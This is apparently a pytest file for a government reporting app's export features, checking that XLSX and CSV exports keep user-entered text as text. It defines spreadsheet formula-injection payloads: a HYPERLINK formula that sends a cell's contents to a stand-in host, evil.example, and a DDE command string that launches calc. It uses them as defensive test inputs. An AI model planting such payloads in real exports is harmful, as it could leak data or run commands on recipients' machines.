"""No exported cell is a live formula: text typed by a unit or a village reaches the district office's PC as text.

Each export is downloaded as its users download it, re-read with openpyxl (and csv for the orgs export), and
checked cell by cell.
"""

import csv
import io
from datetime import date

import pytest
import time_machine
from openpyxl import load_workbook

from luoshi.daily import services as daily_services
from luoshi.orgs import services as org_services
from luoshi.orgs.models import UnitKind
from luoshi.work import services as work_services
from tests.daily.conftest import at, build_form
from tests.work.conftest import build_plan

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
CMD = "+cmd|' /C calc'!A0"


def formulas(response):
    assert response.status_code == 200, response.content[:300]
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    return [c.coordinate for c in cells if c.data_type == "f"], [c.value for c in cells]


def test_a_village_reporters_note_is_text_in_the_towns_daily_export(cast, client_for):
    build_form(cast)
    day = date(2020, 4, 14)
    daily_services.submit_report(cast.wu_cunju, form="yiqing", village="370115001201", day=day, now=at(day, 9),
                                 values={"new_cases": 0, "returnees": 3, "checkpoint": "是", "risk": "低", "note": HYPERLINK})
    with time_machine.travel(at(day, 18), tick=False):
        found, values = formulas(client_for("sun_jiedao").get(f"/daily/export.xlsx?area=370115001&date={day}&form=yiqing"))
    assert found == [] and HYPERLINK in values


def test_task_and_milestone_titles_are_text_in_the_schedule_and_gantt_exports(cast, client_for):
    plan = build_plan(cast)
    work_services.save_task(None, campaign=plan.zs, number="1", title=HYPERLINK, lead_unit=cast.units.shangwu,
                            responsible_units=[cast.units.town], start=date(2020, 3, 1), deadline=date(2020, 6, 30))
    work_services.save_milestone(None, task=plan.t1, number="1.1", title=CMD, due=date(2020, 4, 30))
    client = client_for("li_ducha")
    found, values = formulas(client.get("/work/schedule/export.xlsx"))
    assert found == [] and HYPERLINK in values and CMD in values
    found, values = formulas(client.get("/work/gantt/export.xlsx?on=2020-05-07"))
    assert found == [] and any(HYPERLINK in str(v) for v in values)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_unit_names_cannot_become_formulas_in_the_organisation_export(cast, client_for, fmt):
    org_services.save_unit(None, code="370115D99", name=HYPERLINK, kind=UnitKind.DEPARTMENT, region=cast.jiyang,
                           short_name="@SUM(1,2)")
    response = client_for("wang_admin").get(f"/orgs/export.{fmt}")
    if fmt == "xlsx":
        found, values = formulas(response)
        assert found == [] and HYPERLINK in values and "@SUM(1,2)" in values
        return
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == "370115D99")
    assert "'" + HYPERLINK in row and "'@SUM(1,2)" in row
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for r in rows for c in r if c.startswith(starts)]
